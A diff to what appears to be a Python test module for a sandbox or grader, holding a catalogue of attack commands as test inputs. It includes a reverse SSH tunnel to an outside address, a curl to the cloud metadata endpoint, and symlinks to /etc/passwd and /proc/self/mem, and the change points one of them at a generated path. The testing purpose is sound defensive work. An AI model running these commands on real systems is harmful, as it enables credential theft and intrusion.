@@ -4,6 +4,7 @@ The names X6 … X36 are those of our catalogue of attacks. Looking around leave
 attacks that only look are shown to find nothing; all others are flagged as well.
 """
 
+import re
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -71,8 +72,9 @@ NETWORK = [
     "ssh -o ConnectTimeout=1 -R 8080:localhost:80 tunnel@203.0.113.9",
     "curl -sm1 http://169.254.169.254/latest/meta-data",
 ]
+(_MADE,) = re.findall(r"/app/\w+_breaches", SOURCE.build(GENERATED).instruction)
 LINKS = [
-    "rm -f /app/breaches; ln -s ../../../../../../etc/passwd /app/breaches",
+    f"rm -f {_MADE}; ln -s ../../../../../../etc/passwd {_MADE}",
     "ln -s /proc/self/mem /app/memory; ln -s /dev/zero /app/endless; ln -s / /app/whole",
     "mkfifo /app/pipe; truncate -s 200M /app/sparse; ln /app/sparse /app/hard",
     "touch $'/app/line\\nbreak' /app/$'\\xff\\xfe' '/app/-rf' '/app/CASE' '/app/case'",
